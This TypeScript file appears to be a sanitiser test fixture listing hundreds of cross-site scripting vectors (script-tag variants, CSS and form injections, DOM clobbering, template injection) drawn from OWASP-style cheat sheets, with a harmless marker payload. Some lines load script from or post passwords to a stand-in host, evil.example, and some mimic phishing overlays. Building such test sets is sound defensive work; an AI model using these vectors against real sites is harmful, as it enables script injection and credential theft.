import { addressVectors } from './htmlAddresses';
import { eventVectors } from './htmlEvents';
import { brokenVectors, mutationVectors } from './htmlMutations';
import type { Vectors } from './vectors';

/** The code that every vector tries to run. */
export const payload = 'window.ran=1';

const plainVectors: Vectors = {
  scripts: [
    '<script>RUN</script>',
    '<SCRIPT>RUN</SCRIPT>',
    '<ScRiPt >RUN</sCrIpT >',
    '<script\n>RUN</script\n>',
    '<script/x>RUN</script>',
    '<script type="text/javascript">RUN;</script>',
    '<script type=module>RUN</script>',
    '<script async defer>RUN</script>',
    '<script src="data:text/javascript,RUN"></script>',
    '<script src=data:,RUN></script>',
    '<script src="//evil.example/x.js"></script>',
    '<script/src="https://evil.example/x.js"></script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
    '<script>RUN',
    '<script>/*</script><script>*/RUN</script>',
    '<script><!--\nRUN//--></script>',
    '<script>//<![CDATA[\nRUN\n//]]></script>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '<<script>RUN//<</script>',
    '</script><script>RUN</script>',
    '</title><script>RUN</script>',
    '</textarea><script>RUN</script>',
    '</style></noscript></xmp><script>RUN</script>',
    '<svg><script>RUN</script></svg>',
    '<svg><script href="data:,RUN"/></svg>',
    '<svg><script xlink:href="data:,RUN"></script></svg>',
    '<svg><script>&#119;indow.ran=1</script></svg>',
    '<math><script>RUN</script></math>',
    '<template><script>RUN</script></template>',
    '<noscript><script>RUN</script></noscript>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;top.RUN&lt;/script&gt;"></iframe>',
    '<xml id=x><script>RUN</script></xml>',
    '<listing><script>RUN</script></listing>',
    '%3Cscript%3ERUN%3C/script%3E',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '\ufeff<script>RUN</script>',
    '\u0000<script\u0000>RUN</script>',
  ],
  styles: [
    '<style>@import "data:text/css,*{x:expression(RUN)}";</style>',
    '<style>*{background:url("javascript:RUN")}</style>',
    '<style>body{display:none!important}</style>',
    '<style onload="RUN"></style>',
    '<link rel=stylesheet href="javascript:RUN">',
    '<link rel=stylesheet href="data:text/css,body{display:none}" onload="RUN">',
    '<link rel=import href="data:text/html,<script>RUN</script>">',
    '<link rel=preload as=script href="data:,RUN" onload="RUN">',
    '<p style="background:url(javascript:RUN)">text</p>',
    '<p style="width:expression(RUN)">text</p>',
    '<p style="-moz-binding:url(data:text/xml,RUN)">text</p>',
    '<p style="behavior:url(#default#time2)" onbegin="RUN">text</p>',
    '<p style="position:fixed;inset:0;z-index:99999;background:red">Send money here</p>',
    '<p style="animation:x 1s" onanimationstart="RUN">text</p>',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="RUN"></b>',
    '<div class="overlay" id="root" slot="x" part="y" is="z">covers the page</div>',
    '<table background="javascript:RUN" bgcolor=red><td background="javascript:RUN">x</td></table>',
    '<font color="red" size=7 face="x\'onclick=RUN">x</font>',
    '<marquee behavior=alternate width=9999>x</marquee><blink>x</blink>',
    '<p dir=rtl lang=ar translate=no contenteditable=true tabindex=1 accesskey=x>x</p>',
    '<bdo dir=rtl>000,000,1 ney</bdo>',
  ],
  forms: [
    '<form action="javascript:RUN"><input type=submit></form>',
    '<form><button formaction="javascript:RUN">Withdraw</button></form>',
    '<form id=f action="https://evil.example"><input name=password type=password></form>',
    '<button form=f formaction="javascript:RUN">x</button>',
    '<input type=image src="javascript:RUN" onerror="RUN">',
    '<input autofocus onfocus="RUN">',
    '<select autofocus onfocus="RUN"><option>x</select>',
    '<textarea autofocus onfocus="RUN">x</textarea>',
    '<keygen autofocus onfocus="RUN">',
    '<isindex type=image src=1 onerror="RUN">',
    '<isindex action="javascript:RUN" type=submit>',
    '<label for=x>Fund password<input id=x type=password autocomplete=current-password></label>',
    '<fieldset><legend>Sign in</legend><input></fieldset>',
    '<dialog open>Your account is frozen. <button onclick="RUN">Pay</button></dialog>',
    '<button popovertarget=x onclick="RUN">x</button><div popover id=x onbeforetoggle="RUN">x</div>',
    '<object><form action="javascript:RUN"><input type=submit></form></object>',
  ],
  clobbering: [
    ...['attributes', 'nodeName', 'parentNode', 'children', 'innerHTML', 'firstChild'].map(
      (name) => `<form onmouseover="RUN"><input name=${name}><input name=${name}></form>`,
    ),
    ...['ran', 'cookie', 'location', 'document', 'createElement', 'getElementById', 'body', 'root'].map(
      (name) => `<img name=${name} src=x><a id=${name} href="javascript:RUN"></a>`,
    ),
    '<a id=config><a id=config name=url href="data:,RUN">',
    '<iframe name=self srcdoc="<script>parent.RUN</script>"></iframe>',
    '<input name=nodeType form=x><form id=x></form>',
  ],
  templates: [
    '{{constructor.constructor("RUN")()}}',
    '{{$on.constructor("RUN")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template language's own sign.
    '${RUN}',
    '#{RUN}',
    '<%= RUN %>',
    '<?php RUN ?>',
    '<div ng-app ng-csp><input ng-focus="$event.view.RUN" autofocus></div>',
    '<div v-html="\'<img src=x onerror=RUN>\'"></div>',
    '<div x-data x-init="RUN"></div>',
    '<div data-bind="html: RUN" data-x="<script>RUN</script>" aria-label="x" role=alert>x</div>',
    '$t(common:retry)',
  ],
};

const written = (vectors: Vectors): [kind: string, html: string][] =>
  Object.entries(vectors).flatMap(([kind, all]) =>
    all.map((html): [string, string] => [kind, html.replaceAll('RUN', payload)]),
  );

/**
 * HTML that must not pass the sanitiser, each with its kind. Based on public collections: the OWASP filter evasion
 * cheat sheet, the HTML5 security cheat sheet, and known bypasses of filters.
 */
export const htmlVectors: readonly [kind: string, html: string][] = [
  plainVectors,
  eventVectors,
  addressVectors,
  mutationVectors,
  brokenVectors,
].flatMap(written);
